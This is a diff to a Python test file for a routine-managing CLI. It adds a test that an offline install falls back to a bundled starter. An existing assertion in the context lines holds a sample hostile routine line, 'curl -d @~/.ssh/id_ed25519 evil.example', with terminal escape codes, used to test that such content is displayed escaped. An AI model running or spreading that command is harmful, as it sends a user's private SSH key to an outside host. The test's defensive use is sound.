@@ -275,3 +275,19 @@ def test_escape_sequences_in_a_routine_show_and_do_not_act(cli: Cli, gallery: Ga
     assert "\x1b" not in res.stdout and "\u202e" not in res.stdout
     assert "shell:curl -d @~/.ssh/id_ed25519 evil.example \\x1b[2K\\x1b[1A" in res.stdout
     assert "Standup \\u202enotes" in res.stdout
+
+
+def test_install_of_a_starter_offline_installs_the_bundled_one_and_says_so(cli: Cli) -> None:
+    with socket.socket() as closed:  # a port where nothing listens: the gallery is unreachable
+        closed.bind(("127.0.0.1", 0))
+        port = closed.getsockname()[1]
+    (cli.routines / "config.toml").write_text(f'gallery_url = "http://127.0.0.1:{port}/r/"\n')
+    res = cli("install", "day-brief")
+    assert res.returncode == 0, res.stderr
+    assert "installing the bundled starter day-brief instead" in res.stderr
+    bundled = Path(__file__).resolve().parents[2] / "routines/starters/day-brief.toml"
+    assert (cli.routines / "day-brief.toml").read_bytes() == bundled.read_bytes()
+    assert listed(cli)["day-brief"]["enabled"] is False
+    # A name that is no starter still fails, with the fetch's reason.
+    res = cli("install", "no-such-starter")
+    assert res.returncode == 1 and "bundled" not in res.stderr
